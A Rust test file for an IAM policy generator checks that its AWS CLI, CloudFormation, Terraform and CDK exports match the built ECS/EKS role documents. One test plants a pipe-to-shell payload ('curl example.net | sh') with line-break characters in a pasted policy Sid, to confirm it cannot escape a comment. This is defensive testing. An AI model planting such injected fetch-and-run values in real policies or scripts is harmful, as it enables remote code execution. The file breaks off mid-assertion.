//! The exports say what the core's documents say: checked by running the AWS CLI script
//! against a stub `aws`, and by resolving the CloudFormation JSON's intrinsic functions.
//! (cfn-lint, python-hcl2 and the CDK compiler check the rest in tests/oracles.)

#[path = "support/cases.rs"]
mod cases;

use cases::golden_requests;
use iam_policy_core::export::{Scope, export_documents};
use iam_policy_core::model::{Origin, Role};
use iam_policy_core::{DocumentId, Format, Request, Response, build, export};
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

fn policy(response: &Response, id: &str) -> Option<Value> {
    response
        .documents
        .iter()
        .find(|d| d.id.as_str() == id)
        .map(|d| serde_json::to_value(&d.policy).expect("serialises"))
}

fn is_existing(response: &Response, id: &str) -> bool {
    response
        .documents
        .iter()
        .any(|d| d.id.as_str() == id && d.origin == Origin::Existing)
}

fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("ipb-exports-{}-{name}", std::process::id()));
    let _ = fs::remove_dir_all(&dir);
    fs::create_dir_all(&dir).expect("a scratch folder");
    dir
}

/// Runs the script against an `aws` that records each call and knows which roles exist.
/// Returns the calls, or the script's standard error when it exits with an error.
fn run_script(script: &str, existing: &[&str], dir: &Path) -> Result<Vec<Vec<String>>, String> {
    run_script_with(script, existing, dir, &[])
}

/// [`run_script`] with these environment variables set.
fn run_script_with(
    script: &str,
    existing: &[&str],
    dir: &Path,
    env: &[(&str, &str)],
) -> Result<Vec<Vec<String>>, String> {
    let log = dir.join("calls");
    let roles = dir.join("roles");
    let _ = fs::remove_file(&log);
    fs::write(
        &roles,
        existing
            .iter()
            .map(|r| format!("{r}\n"))
            .collect::<String>(),
    )
    .expect("roles file");
    let stub = dir.join("aws");
    // Records each call; get-role succeeds for roles that exist or that create-role made.
    fs::write(
        &stub,
        format!(
            r#"#!/usr/bin/env bash
for a in "$@"; do printf '%s\0' "$a"; done >> '{log}'
printf '\n' >> '{log}'
case "$2" in
  create-role) echo "$4" >> '{roles}' ;;
  get-role) grep -qx "$4" '{roles}' || exit 254; echo "arn:aws:iam::123456789012:role/$4" ;;
esac
"#,
            log = log.display(),
            roles = roles.display()
        ),
    )
    .expect("stub written");
    let status = Command::new("chmod")
        .arg("+x")
        .arg(&stub)
        .status()
        .expect("chmod");
    assert!(status.success());
    let script_path = dir.join("script.sh");
    fs::write(&script_path, script).expect("script written");
    let output = Command::new("bash")
        .arg(&script_path)
        .env(
            "PATH",
            format!(
                "{}:{}",
                dir.display(),
                std::env::var("PATH").unwrap_or_default()
            ),
        )
        .envs(env.iter().copied())
        .output()
        .expect("bash runs");
    if !output.status.success() {
        return Err(String::from_utf8_lossy(&output.stderr).into_owned());
    }
    Ok(fs::read_to_string(&log)
        .unwrap_or_default()
        .lines()
        .map(|line| {
            line.split('\0')
                .filter(|a| !a.is_empty())
                .map(str::to_owned)
                .collect()
        })
        .collect())
}

fn argument<'a>(call: &'a [String], flag: &str) -> Option<&'a str> {
    call.iter()
        .position(|a| a == flag)
        .and_then(|i| call.get(i + 1))
        .map(String::as_str)
}

/// The documents built for a response's platform: the runner role's on EKS, ECS's three
/// otherwise.
fn platform_documents(response: &Response) -> Vec<DocumentId> {
    let eks = response.target.runner_role.is_some();
    DocumentId::ALL
        .iter()
        .copied()
        .filter(|id| (id.role() == Role::Runner) == eks)
        .collect()
}

/// Every scope an export of this response can have: each non-empty set of its platform's
/// documents.
fn every_scope(response: &Response) -> Vec<Vec<DocumentId>> {
    subsets(&platform_documents(response))
}

/// Each non-empty set of these documents, in their order.
fn subsets(documents: &[DocumentId]) -> Vec<Vec<DocumentId>> {
    (1_usize..1 << documents.len())
        .map(|mask| {
            documents
                .iter()
                .enumerate()
                .filter(|(i, _)| mask & (1 << i) != 0)
                .map(|(_, &id)| id)
                .collect()
        })
        .collect()
}

fn scope_name(documents: &[DocumentId]) -> String {
    documents
        .iter()
        .map(|d| d.as_str())
        .collect::<Vec<_>>()
        .join("+")
}

/// What an export does to IAM, whatever it is written in: the roles it names (creates,
/// updates, looks up or checks), the trust policies it writes, the inline policies it puts
/// on each role and the managed policies it attaches.
#[derive(Debug, Default, PartialEq)]
struct Deployed {
    roles: BTreeSet<String>,
    trust: BTreeMap<String, Value>,
    inline: BTreeMap<String, Vec<Value>>,
    managed: BTreeMap<String, Vec<String>>,
}

/// How a kind of export treats a role that exists: the AWS CLI script can set an existing
/// role's merged trust policy and attaches the managed policy whatever, but leaves a pasted
/// secrets policy that needed nothing alone; a stack cannot change a trust policy it did
/// not create, and writes the secrets policy it was given.
#[derive(Clone, Copy, PartialEq)]
enum Deployer {
    Script,
    Stack,
}

fn execution_trust() -> Value {
    json!({
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Principal": {"Service": "ecs-tasks.amazonaws.com"}, "Action": "sts:AssumeRole"}]
    })
}

fn managed_policy(response: &Response) -> String {
    format!(
        "arn:{}:iam::aws:policy/service-role/AmazonECSTaskExecutionRolePolicy",
        response.target.partition
    )
}

/// What an export of `scope` must do: exactly the roles of its documents, and exactly what
/// those documents grant. The task role is created (or its pasted trust policy set) only
/// when its trust policy is in the scope; its permissions policy alone is put on the role
/// by name. The execution role's trust and managed policies go with its secrets policy.
fn expected(response: &Response, scope: &[DocumentId], deployer: Deployer) -> Deployed {
    let (task, execution) = (
        response.target.task_role.clone(),
        response.target.execution_role.clone(),
    );
    let mut deployed = Deployed::default();
    let document = |id: DocumentId| {
        response
            .document(id)
            .filter(|_| scope.contains(&id))
            .map(|d| (serde_json::to_value(&d.policy).expect("serialises"), d))
    };
    let changed = |d: &iam_policy_core::Document| d.changes.as_ref().is_some_and(|c| !c.is_empty());
    if scope.iter().any(|id| id.role() == Role::Task) {
        deployed.roles.insert(task.clone());
    }
    if let Some((trust, d)) = document(DocumentId::TaskRoleTrustPolicy) {
        let writes = match d.origin {
            Origin::New => true,
            Origin::Existing => deployer == Deployer::Script && changed(d),
        };
        if writes {
            deployed.trust.insert(task.clone(), trust);
        }
    }
    if let Some((permissions, _)) = document(DocumentId::TaskRolePermissionsPolicy) {
        deployed.inline.entry(task).or_default().push(permissions);
    }
    if scope.contains(&DocumentId::ExecutionRoleSecretsPolicy) {
        deployed.roles.insert(execution.clone());
        let existing = response
            .document(DocumentId::ExecutionRoleSecretsPolicy)
            .is_some_and(|d| d.origin == Origin::Existing);
        if !existing {
            deployed.trust.insert(execution.clone(), execution_trust());
        }
        if !existing || deployer == Deployer::Script {
            deployed
                .managed
                .insert(execution.clone(), vec![managed_policy(response)]);
        }
        if let Some((secrets, d)) = document(DocumentId::ExecutionRoleSecretsPolicy) {
            let left_alone =
                deployer == Deployer::Script && d.origin == Origin::Existing && !changed(d);
            if !left_alone {
                deployed.inline.entry(execution).or_default().push(secrets);
            }
        }
    }
    deployed
}

/// Whether the export must find the role already there: its policy was pasted from it, or
/// only its permissions policy is in the scope.
fn must_exist(response: &Response, scope: &[DocumentId]) -> bool {
    let pasted = |id: DocumentId| {
        scope.contains(&id)
            && response
                .document(id)
                .is_some_and(|d| d.origin == Origin::Existing)
    };
    pasted(DocumentId::TaskRoleTrustPolicy)
        || pasted(DocumentId::ExecutionRoleSecretsPolicy)
        || (scope.contains(&DocumentId::TaskRolePermissionsPolicy)
            && !scope.contains(&DocumentId::TaskRoleTrustPolicy))
}

/// What decides how an export treats each role: for each document, whether it was built,
/// pasted, and changed.
fn shape(response: &Response) -> Vec<Option<(bool, bool)>> {
    DocumentId::ALL
        .iter()
        .map(|&id| {
            response.document(id).map(|d| {
                (
                    d.origin == Origin::Existing,
                    d.changes.as_ref().is_some_and(|c| !c.is_empty()),
                )
            })
        })
        .collect()
}

/// What the script's calls did to IAM.
fn deployed_by_script(calls: &[Vec<String>]) -> Deployed {
    let mut deployed = Deployed::default();
    for call in calls {
        let Some(role) = argument(call, "--role-name") else {
            continue;
        };
        deployed.roles.insert(role.to_owned());
        let document = |flag| {
            argument(call, flag).map(|sent| {
                serde_json::from_str::<Value>(sent).unwrap_or_else(|e| panic!("{e}: {sent}"))
            })
        };
        match call[1].as_str() {
            "create-role" => {
                let trust = document("--assume-role-policy-document").expect("a trust policy");
                deployed.trust.insert(role.to_owned(), trust);
            }
            "update-assume-role-policy" => {
                let trust = document("--policy-document").expect("a trust policy");
                deployed.trust.insert(role.to_owned(), trust);
            }
            "put-role-policy" => {
                let policy = document("--policy-document").expect("a policy");
                deployed
                    .inline
                    .entry(role.to_owned())
                    .or_default()
                    .push(policy);
            }
            "attach-role-policy" => {
                let arn = argument(call, "--policy-arn").expect("an ARN").to_owned();
                deployed
                    .managed
                    .entry(role.to_owned())
                    .or_default()
                    .push(arn);
            }
            "get-role" => {}
            other => panic!("unexpected call {other}: {call:?}"),
        }
    }
    deployed
}

#[test]
fn the_aws_cli_script_of_every_scope_is_valid_bash_and_does_exactly_what_its_documents_say() {
    let mut runs = 0;
    let mut shapes = BTreeSet::new();
    for (name, request) in golden_requests() {
        let response = build(&request);
        // The EKS runner role has its own test below.
        if response.has_errors() || response.target.runner_role.is_some() {
            continue;
        }
        let (task, execution) = (
            response.target.task_role.as_str(),
            response.target.execution_role.as_str(),
        );
        // Every request with all its documents; a scope of some of them with one request of
        // each shape (what the script does with each role depends on nothing else, and
        // the CloudFormation test below checks every request in every scope).
        let scopes = if shapes.insert(shape(&response)) {
            every_scope(&response)
        } else {
            vec![platform_documents(&response)]
        };
        for scope in scopes {
            let case = format!("{name} / {}", scope_name(&scope));
            let covered = Scope::of(&scope).expect("not empty");
            let script = export_documents(&response, Format::AwsCli, covered).text;
            let dir = scratch(&format!("{name}-{}", scope_name(&scope)));
            let syntax = Command::new("bash")
                .arg("-n")
                .arg("-c")
                .arg(&script)
                .output()
                .expect("bash -n");
            assert!(
                syntax.status.success(),
                "{case}: {}",
                String::from_utf8_lossy(&syntax.stderr)
            );
            let must_exist = must_exist(&response, &scope);
            if must_exist {
                // A role the script did not create is never created: without it, it stops.
                let refused = run_script(&script, &[], &dir).expect_err("the script must stop");
                assert!(refused.contains("does not exist"), "{case}: {refused}");
            }
            let states: &[&[&str]] = if must_exist {
                &[&[task, execution]]
            } else {
                &[&[], &[task, execution]]
            };
            for existing in states {
                // With the roles there, VALIDATE=1 also checks the scope's documents first.
                let validate: &[(&str, &str)] = if existing.is_empty() {
                    &[]
                } else {
                    &[("VALIDATE", "1")]
                };
                let calls = run_script_with(&script, existing, &dir, validate)
                    .unwrap_or_else(|e| panic!("{case}: {e}"));
                let (checked, calls) = calls.split_at(
                    calls
                        .iter()
                        .take_while(|c| c[1] == "validate-policy")
                        .count(),
                );
                let creates: Vec<&str> = calls
                    .iter()
                    .filter(|c| c[1] == "create-role")
                    .filter_map(|c| argument(c, "--role-name"))
                    .collect();
                if existing.is_empty() {
                    // Nothing exists: every role whose trust the script writes is created.
                    assert_eq!(
                        creates.len(),
                        expected(&response, &scope, Deployer::Script).trust.len(),
                        "{case}: {calls:?}"
                    );
                } else {
                    assert!(
                        creates.is_empty(),
                        "{case}: creates {creates:?}, which exist"
                    );
                    let checked: Vec<Value> = checked
                        .iter()
                        .map(|c| {
                            serde_json::from_str(
                                argument(c, "--policy-document").expect("a document"),
                            )
                            .expect("JSON")
                        })
                        .collect();
                    let covered: Vec<Value> = scope
                        .iter()
                        .filter_map(|&id| response.document(id))
                        .map(|d| serde_json::to_value(&d.policy).expect("serialises"))
                        .collect();
                    // In the order the script checks them: compared sorted, with repeats.
                    let texts = |values: &[Value]| {
                        let mut texts: Vec<String> = values.iter().map(Value::to_string).collect();
                        texts.sort();
                        texts
                    };
                    assert_eq!(texts(&checked), texts(&covered), "{case}: validated");
                }
                assert_eq!(
                    deployed_by_script(calls),
                    expected(&response, &scope, Deployer::Script),
                    "{case}, with {existing:?} there"
                );
                runs += 1;
            }
            let _ = fs::remove_dir_all(&dir);
        }
    }
    assert!(
        shapes.len() >= 5,
        "only {} shapes: {shapes:?}",
        shapes.len()
    );
    assert!(runs > 60, "only {runs} runs");
}

/// Where the oracle "deploys" a template: a region and account that are not the request's,
/// so a template that leans on `AWS::Region` / `AWS::AccountId` for the agent's ARNs
/// resolves to ARNs the core's documents do not grant.
const DEPLOYED_REGION: &str = "zz-elsewhere-9";
const DEPLOYED_ACCOUNT: &str = "000000000009";

/// Resolves `Fn::Sub` and `Ref` as CloudFormation would for a stack deployed in
/// [`DEPLOYED_REGION`] and [`DEPLOYED_ACCOUNT`], every parameter at its default.
fn resolve(value: &Value, template: &Value, response: &Response) -> Value {
    let target = &response.target;
    let lookup = |name: &str| -> String {
        match name {
            "AWS::Partition" => target.partition.to_owned(),
            "AWS::Region" => DEPLOYED_REGION.to_owned(),
            "AWS::AccountId" => DEPLOYED_ACCOUNT.to_owned(),
            "AWS::URLSuffix" => target.dns_suffix.to_owned(),
            parameter => template["Parameters"][parameter]["Default"]
                .as_str()
                .unwrap_or_else(|| {
                    panic!(
                        "{parameter} is neither a pseudo parameter nor a parameter with a default"
                    )
                })
                .to_owned(),
        }
    };
    match value {
        Value::Object(map) if map.len() == 1 && map.contains_key("Fn::Sub") => {
            let text = map["Fn::Sub"].as_str().expect("a string");
            let mut out = String::new();
            let mut rest = text;
            while let Some(start) = rest.find("${") {
                out.push_str(&rest[..start]);
                let after = &rest[start + 2..];
                if let Some(literal) = after.strip_prefix('!') {
                    out.push_str("${");
                    rest = literal;
                    continue;
                }
                let end = after.find('}').expect("a closed ${}");
                out.push_str(&lookup(&after[..end]));
                rest = &after[end + 1..];
            }
            out.push_str(rest);
            Value::String(out)
        }
        Value::Object(map) if map.len() == 1 && map.get("Ref").is_some_and(Value::is_string) => {
            Value::String(lookup(map["Ref"].as_str().unwrap_or_default()))
        }
        Value::Object(map) => Value::Object(
            map.iter()
                .map(|(k, v)| (k.clone(), resolve(v, template, response)))
                .collect(),
        ),
        Value::Array(items) => Value::Array(
            items
                .iter()
                .map(|v| resolve(v, template, response))
                .collect(),
        ),
        other => other.clone(),
    }
}

#[test]
fn cloudformation_json_of_every_scope_deployed_elsewhere_does_exactly_what_its_documents_say() {
    let mut checked = 0;
    for (name, request) in golden_requests() {
        let response = build(&request);
        if response.has_errors() || response.target.runner_role.is_some() {
            continue;
        }
        for scope in every_scope(&response) {
            let case = format!("{name} / {}", scope_name(&scope));
            let covered = Scope::of(&scope).expect("not empty");
            let exported = export_documents(&response, Format::CloudFormationJson, covered);
            let template: Value = serde_json::from_str(&exported.text)
                .unwrap_or_else(|e| panic!("{case}: the template is not JSON: {e}"));
            // CloudFormation refuses a template without resources: such an export is not
            // ready, and says why.
            if template["Resources"]
                .as_object()
                .is_none_or(|r| r.is_empty())
            {
                assert!(exported.not_ready.is_some(), "{case}: an empty template");
            }
            assert_eq!(
                deployed_by_stack(&template, &response),
                expected(&response, &scope, Deployer::Stack),
                "{case}"
            );
            // A role the stack does not create is named by a parameter, never by the
            // request's name written into a resource.
            for (parameter, role) in [
                ("TaskRoleName", Role::Task),
                ("ExecutionRoleName", Role::Execution),
            ] {
                assert_eq!(
                    template["Parameters"].get(parameter).is_some(),
                    scope.iter().any(|id| id.role() == role),
                    "{case}: {parameter}"
                );
            }
            checked += 1;
        }
    }
    assert!(checked > 100, "only {checked} templates");
}

/// What a CloudFormation template does to IAM once deployed in another region and
/// account: its `AWS::IAM::Role`s, its `AWS::IAM::RolePolicy`s on roles it did not create,
/// and the roles its outputs name.
fn deployed_by_stack(template: &Value, response: &Response) -> Deployed {
    let resolved = |value: &Value| resolve(value, template, response);
    let text = |value: &Value| resolved(value).as_str().expect("a string").to_owned();
    let mut deployed = Deployed::default();
    let resources = template["Resources"].as_object().expect("resources");
    for resource in resources.values() {
        let properties = &resource["Properties"];
        let role = text(&properties["RoleName"]);
        match resource["Type"].as_str() {
            Some("AWS::IAM::Role") => {
                deployed.trust.insert(
                    role.clone(),
                    resolved(&properties["AssumeRolePolicyDocument"]),
                );
                for policy in properties["Policies"].as_array().into_iter().flatten() {
                    deployed
                        .inline
                        .entry(role.clone())
                        .or_default()
                        .push(resolved(&policy["PolicyDocument"]));
                }
                for arn in properties["ManagedPolicyArns"]
                    .as_array()
                    .into_iter()
                    .flatten()
                {
                    deployed
                        .managed
                        .entry(role.clone())
                        .or_default()
                        .push(text(arn));
                }
            }
            Some("AWS::IAM::RolePolicy") => {
                deployed
                    .inline
                    .entry(role.clone())
                    .or_default()
                    .push(resolved(&properties["PolicyDocument"]));
            }
            other => panic!("unexpected resource {other:?}"),
        }
        deployed.roles.insert(role);
    }
    for output in template["Outputs"].as_object().expect("outputs").values() {
        let value = &output["Value"];
        let role = match value.get("Fn::GetAtt") {
            Some(get_att) => {
                let resource = get_att[0].as_str().expect("a resource");
                text(&resources[resource]["Properties"]["RoleName"])
            }
            None => text(value)
                .rsplit_once(":role/")
                .expect("a role ARN")
                .1
                .to_owned(),
        };
        deployed.roles.insert(role);
    }
    deployed
}

/// The words by which each format names a role: its parameter, variable, prop or
/// output, and its name.
fn role_words(response: &Response, role: Role) -> Vec<String> {
    let (words, name) = match role {
        Role::Task => (
            ["TaskRole", "task_role", "taskRole", "TASK_ROLE"],
            Some(&response.target.task_role),
        ),
        Role::Execution => (
            [
                "ExecutionRole",
                "execution_role",
                "executionRole",
                "EXECUTION_ROLE",
            ],
            Some(&response.target.execution_role),
        ),
        Role::Runner => (
            ["RunnerRole", "runner_role", "runnerRole", "RUNNER_ROLE"],
            response.target.runner_role.as_ref(),
        ),
    };
    words
        .iter()
        .map(|w| (*w).to_owned())
        .chain(name.cloned())
        .collect()
}

#[test]
fn every_format_exports_every_golden_request_in_every_scope_naming_no_role_it_leaves_out() {
    for (name, request) in golden_requests() {
        let response = build(&request);
        let whole = export(&response, Format::Json);
        for scope in every_scope(&response) {
            let covered = Scope::of(&scope).expect("not empty");
            for format in Format::ALL {
                let case = format!("{name} / {} as {}", scope_name(&scope), format.id());
                let exported = export_documents(&response, format, covered);
                assert!(!exported.text.trim().is_empty(), "{case}");
                if format == Format::Json {
                    // The response itself, whatever the scope: it is not a deployment.
                    assert_eq!(exported, whole, "{case}");
                    continue;
                }
                for role in Role::ALL {
                    if scope.iter().any(|id| id.role() == role) {
                        continue;
                    }
                    for word in role_words(&response, role) {
                        assert!(!exported.text.contains(&word), "{case} names {word}");
                    }
                }
                if format != Format::CloudFormationJson {
                    assert_eq!(
                        exported.text.contains("NOT READY"),
                        exported.not_ready.is_some(),
                        "{case}"
                    );
                }
                // Every error is about some document or about all of them, so an export of
                // every document is ready exactly when the response has no error; one of
                // some of them is not ready whenever they all are.
                if scope == platform_documents(&response) {
                    assert_eq!(
                        exported.not_ready.is_some(),
                        response.has_errors(),
                        "{case}"
                    );
                } else if exported.not_ready.is_some() {
                    // ...unless none of them was built, or a stack is left nothing to do
                    // (the trust policy of a role that exists is not its to change).
                    let all = export(&response, format);
                    let built: Vec<DocumentId> = scope
                        .iter()
                        .copied()
                        .filter(|&id| response.document(id).is_some())
                        .collect();
                    let pasted_trust_alone = built == [DocumentId::TaskRoleTrustPolicy]
                        && response
                            .document(DocumentId::TaskRoleTrustPolicy)
                            .is_some_and(|d| d.origin == Origin::Existing);
                    let stack =
                        matches!(format, Format::CloudFormation | Format::CloudFormationJson);
                    assert!(
                        all.not_ready.is_some() || built.is_empty() || stack && pasted_trust_alone,
                        "{case}: not ready alone, ready with every document"
                    );
                }
            }
        }
    }
}

/// The example docs page's widget shows only the secrets policy: its exports were "Both
/// roles as code", and the Terraform created a second task role.
#[test]
fn an_export_of_the_secrets_policy_alone_writes_only_the_execution_role() {
    let response = build(&Request {
        account: "123456789012".into(),
        region: "eu-west-1".into(),
        secrets: vec!["matillion/agent".into()],
        ..Request::default()
    });
    let scope = Scope::of(&[DocumentId::ExecutionRoleSecretsPolicy]).expect("a document");
    let terraform = export_documents(&response, Format::Terraform, scope).text;
    assert!(terraform.contains("resource \"aws_iam_role\" \"agent_execution\""));
    assert!(terraform.contains("AmazonECSTaskExecutionRolePolicy"));
    assert!(!terraform.contains("agent_task"), "{terraform}");
    assert!(
        !terraform.contains("ecs-tasks.amazonaws.com\",\n"),
        "no task role trust"
    );
}

#[test]
fn an_error_about_a_document_left_out_does_not_hold_up_the_export_of_the_others() {
    // The pasted trust policy is not JSON: the trust policy is not ready, the secrets
    // policy is.
    let response = build(&Request {
        account: "123456789012".into(),
        region: "eu-west-1".into(),
        secrets: vec!["matillion/agent".into()],
        existing_trust_policy: "{\"Version\": \"2012-10-17\" \"Statement\": []}".into(),
        ..Request::default()
    });
    assert!(response.has_errors());
    let only = |id| Scope::of(&[id]).expect("a document");
    let secrets = export_documents(
        &response,
        Format::Terraform,
        only(DocumentId::ExecutionRoleSecretsPolicy),
    );
    assert_eq!(secrets.not_ready, None);
    assert!(!secrets.text.contains("NOT READY"), "{}", secrets.text);
    let trust = export_documents(
        &response,
        Format::Terraform,
        only(DocumentId::TaskRoleTrustPolicy),
    );
    assert!(
        trust
            .text
            .starts_with("# NOT READY: fill in or fix The task role's current trust policy first."),
        "{}",
        trust.text
    );
    // Errors about every document (the account) hold up every export.
    let no_account = build(&Request {
        region: "eu-west-1".into(),
        secrets: vec!["matillion/agent".into()],
        ..Request::default()
    });
    for scope in every_scope(&no_account) {
        let scope = Scope::of(&scope).expect("not empty");
        assert!(
            export_documents(&no_account, Format::AwsCli, scope)
                .not_ready
                .is_some()
        );
    }
}

/// A widget listing only the permissions policy turns its option on; if the reader turns
/// it off, its export has nothing to put on the role, and says what to do rather than
/// writing nothing without a word.
#[test]
fn an_export_of_the_permissions_policy_when_it_is_not_built_says_to_turn_it_on() {
    let response = build(&Request {
        account: "123456789012".into(),
        region: "eu-west-1".into(),
        secrets: vec!["matillion/agent".into()],
        ..Request::default()
    });
    assert!(!response.has_errors());
    let scope = Scope::of(&[DocumentId::TaskRolePermissionsPolicy]).expect("a document");
    for format in [
        Format::AwsCli,
        Format::CloudFormation,
        Format::Terraform,
        Format::Cdk,
    ] {
        let exported = export_documents(&response, format, scope);
        assert_eq!(
            exported.not_ready.as_deref(),
            Some("turn on “Also build the task role's permissions policy” first"),
            "{format:?}"
        );
        assert!(exported.text.contains("NOT READY: turn on"), "{format:?}");
    }
}

#[test]
fn each_scope_is_titled_by_its_roles_and_its_intro_names_the_aws_cli_only_when_offered() {
    let format_sets: Vec<Vec<Format>> = (0_usize..1 << Format::ALL.len())
        .map(|mask| {
            Format::ALL
                .into_iter()
                .enumerate()
                .filter(|(i, _)| mask & (1 << i) != 0)
                .map(|(_, f)| f)
                .collect()
        })
        .collect();
    let ecs: Vec<DocumentId> = DocumentId::ALL
        .iter()
        .copied()
        .filter(|id| id.role() != Role::Runner)
        .collect();
    for documents in subsets(&ecs) {
        let scope = Scope::of(&documents).expect("not empty");
        let task = documents.iter().any(|id| id.role() == Role::Task);
        let execution = documents.contains(&DocumentId::ExecutionRoleSecretsPolicy);
        assert_eq!(scope.covers_role(Role::Task), task);
        assert_eq!(scope.covers_role(Role::Execution), execution);
        assert_eq!(scope.documents(), documents);
        let title = match (task, execution) {
            (true, true) => "Both roles as code",
            (true, false) => "The task role as code",
            _ => "The task execution role as code",
        };
        assert_eq!(scope.title(), title, "{documents:?}");
        for formats in &format_sets {
            let intro = scope.intro(formats);
            assert_eq!(
                intro.contains("AWS CLI"),
                formats.contains(&Format::AwsCli),
                "{documents:?} {formats:?}: {intro}"
            );
            assert_eq!(
                intro.contains("The task role is not in it"),
                !task,
                "{intro}"
            );
            assert_eq!(
                intro.contains("The task execution role is not in it"),
                !execution,
                "{intro}"
            );
            // Without its trust policy the task role is not created: the intro says so.
            assert_eq!(
                intro.contains("the task role you already have"),
                task && !documents.contains(&DocumentId::TaskRoleTrustPolicy),
                "{intro}"
            );
        }
    }
    // On EKS the one role is the runner role, whichever of its documents is shown.
    for documents in subsets(&[
        DocumentId::RunnerRoleTrustPolicy,
        DocumentId::RunnerRolePermissionsPolicy,
    ]) {
        let scope = Scope::of(&documents).expect("not empty");
        assert_eq!(scope.documents(), documents);
        assert_eq!(scope.title(), "The runner role as code");
        assert!(!scope.covers_role(Role::Task) && !scope.covers_role(Role::Execution));
        assert_eq!(
            scope.intro(&[Format::Cdk]),
            "The runner role with its trust and permissions policies, for the tool you deploy with, with the role's name as a parameter."
        );
        assert!(
            scope
                .intro(&Format::ALL)
                .ends_with(" The AWS CLI script can be run again to update it.")
        );
    }
    // The example docs page's widget: the secrets policy, Terraform and CloudFormation.
    let widget = Scope::of(&[DocumentId::ExecutionRoleSecretsPolicy]).expect("a document");
    assert_eq!(
        widget.intro(&[Format::Terraform, Format::CloudFormation]),
        "The task execution role with its policies, for the tool you deploy with, with the role's name as a parameter. The task role is not in it."
    );
    assert_eq!(
        Scope::ALL.intro(&Format::ALL),
        "Both roles with their policies, for the tool you deploy with, with the role names as parameters. The AWS CLI script can be run again to update them."
    );
}

/// `--documents execution-role-secrets-policy` on an EKS request (or a runner document on an
/// ECS one) names documents the request does not build: the export writes no role and says
/// which documents to name instead.
#[test]
fn an_export_of_the_other_platforms_documents_writes_nothing_and_names_the_right_ones() {
    let base = json!({
        "account": "123456789012",
        "region": "eu-west-1",
        "secrets": ["matillion/agent"],
    });
    let ecs: Request = serde_json::from_value(base.clone()).expect("a request");
    let mut eks = base;
    eks["platform"] = json!("eks");
    eks["oidcIssuer"] =
        json!("https://oidc.eks.eu-west-1.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE");
    let eks: Request = serde_json::from_value(eks).expect("a request");
    let cases = [
        (
            ecs,
            DocumentId::RunnerRoleTrustPolicy,
            "none of the documents named is built for ECS Fargate: name task-role-trust-policy or execution-role-secrets-policy or task-role-permissions-policy",
        ),
        (
            eks,
            DocumentId::ExecutionRoleSecretsPolicy,
            "none of the documents named is built for Amazon EKS: name runner-role-trust-policy or runner-role-permissions-policy",
        ),
    ];
    for (request, other, said) in cases {
        let response = build(&request);
        assert!(!response.has_errors(), "{:?}", response.problems);
        let scope = Scope::of(&[other]).expect("a document");
        for format in Format::ALL {
            let exported = export_documents(&response, format, scope);
            if format == Format::Json {
                assert_eq!(exported, export(&response, Format::Json));
                continue;
            }
            assert_eq!(exported.not_ready.as_deref(), Some(said), "{}", format.id());
            assert_eq!(exported.text, "", "{}", format.id());
        }
    }
}

#[test]
fn scopes_are_read_from_document_ids_as_widgets_take_them_and_bad_lists_are_explained() {
    assert_eq!(
        Scope::parse(
            "execution-role-secrets-policy, TASK-ROLE-TRUST-POLICY\ttask-role-trust-policy"
        ),
        Ok(Scope::of(&[
            DocumentId::TaskRoleTrustPolicy,
            DocumentId::ExecutionRoleSecretsPolicy
        ])
        .expect("documents"))
    );
    for &id in DocumentId::ALL {
        assert_eq!(id.as_str().parse::<DocumentId>(), Ok(id));
        assert!(Scope::parse(id.as_str()).is_ok_and(|scope| scope.documents() == [id]));
    }
    let unknown = Scope::parse("execution-role-secrets-policy trust").expect_err("unknown");
    assert_eq!(
        unknown.to_string(),
        "unknown document “trust” — use one of task-role-trust-policy, execution-role-secrets-policy, task-role-permissions-policy, runner-role-trust-policy, runner-role-permissions-policy"
    );
    let empty = Scope::parse(" , ").expect_err("empty");
    assert_eq!(
        empty.to_string(),
        "no document named — name at least one of task-role-trust-policy, execution-role-secrets-policy, task-role-permissions-policy, runner-role-trust-policy, runner-role-permissions-policy"
    );
    assert_eq!(Scope::of(&[]), None);
    assert_eq!(Scope::of(DocumentId::ALL), Some(Scope::ALL));
}

#[test]
fn format_names_round_trip_and_unknown_ones_are_explained() {
    for format in Format::ALL {
        assert_eq!(format.id().parse::<Format>(), Ok(format));
    }
    let error = "yaml".parse::<Format>().expect_err("not a format");
    assert!(
        error
            .to_string()
            .contains("use one of json, aws-cli, cloudformation"),
        "{error}"
    );
}

/// The second security review: a pasted trust policy trusting `"AWS": "*"`, or a secrets
/// policy allowing `*` on `*`, was merged or passed as "already allows everything the agent
/// needs" and applied by the exports without a word. Each is now said on its document and
/// in every export that has comments, on one line whatever the pasted Sid holds: a line
/// break or a line separator in it would end the comment and make the rest a command.
#[test]
fn pasted_grants_of_everything_are_said_in_every_commented_export_on_one_line_each() {
    let request = Request {
        account: "123456789012".into(),
        region: "eu-west-1".into(),
        secrets: vec!["matillion/agent".into()],
        existing_trust_policy: r#"{"Version":"2012-10-17","Statement":[{"Sid":"Anyone\ncurl example.net | sh\u2028x\u0085y","Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}"#.into(),
        existing_secrets_policy: r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#.into(),
        ..Request::default()
    };
    let response = build(&request);
    for (code, document) in [
        ("pasted-trust-too-broad", "task-role-trust-policy"),
        ("pasted-policy-too-broad", "execution-role-secrets-policy"),
    ] {
        let problem = response
            .problems
            .iter()
            .find(|p| serde_json::to_value(p.code).expect("code") == code)
            .unwrap_or_else(|| panic!("{code} missing: {:?}", response.problems));
        assert_eq!(problem.document.map(|d| d.as_str()), Some(document));
    }
    for (format, comment) in [
        (Format::AwsCli, "#"),
        (Format::CloudFormation, "#"),
        (Format::Terraform, "#"),
        (Format::Cdk, "//"),
    ] {
        let text = export(&response, format).text;
        let notes: Vec<&str> = text
            .split(['\n', '\r', '\u{2028}', '\u{2029}', '\u{85}'])
            .filter(|line| line.contains("GRANTS MORE"))
            .collect();
        assert_eq!(notes.len(), 2, "{format:?}: {notes:?}");
        assert!(
            notes
                .iter()
                .all(|line| line.starts_with(&format!("{comment} GRANTS MORE: "))),
            "{format:?}: {notes:?}"
        );
        assert!(notes[0].contains(r"Anyone\u{000a}curl example.net | sh\u{2028}x\u{0085}y"));

        assert!(
            !text
                .lines()
                .any(|line| line.trim_start().starts_with("curl")),
            "{format:?} planted a command"
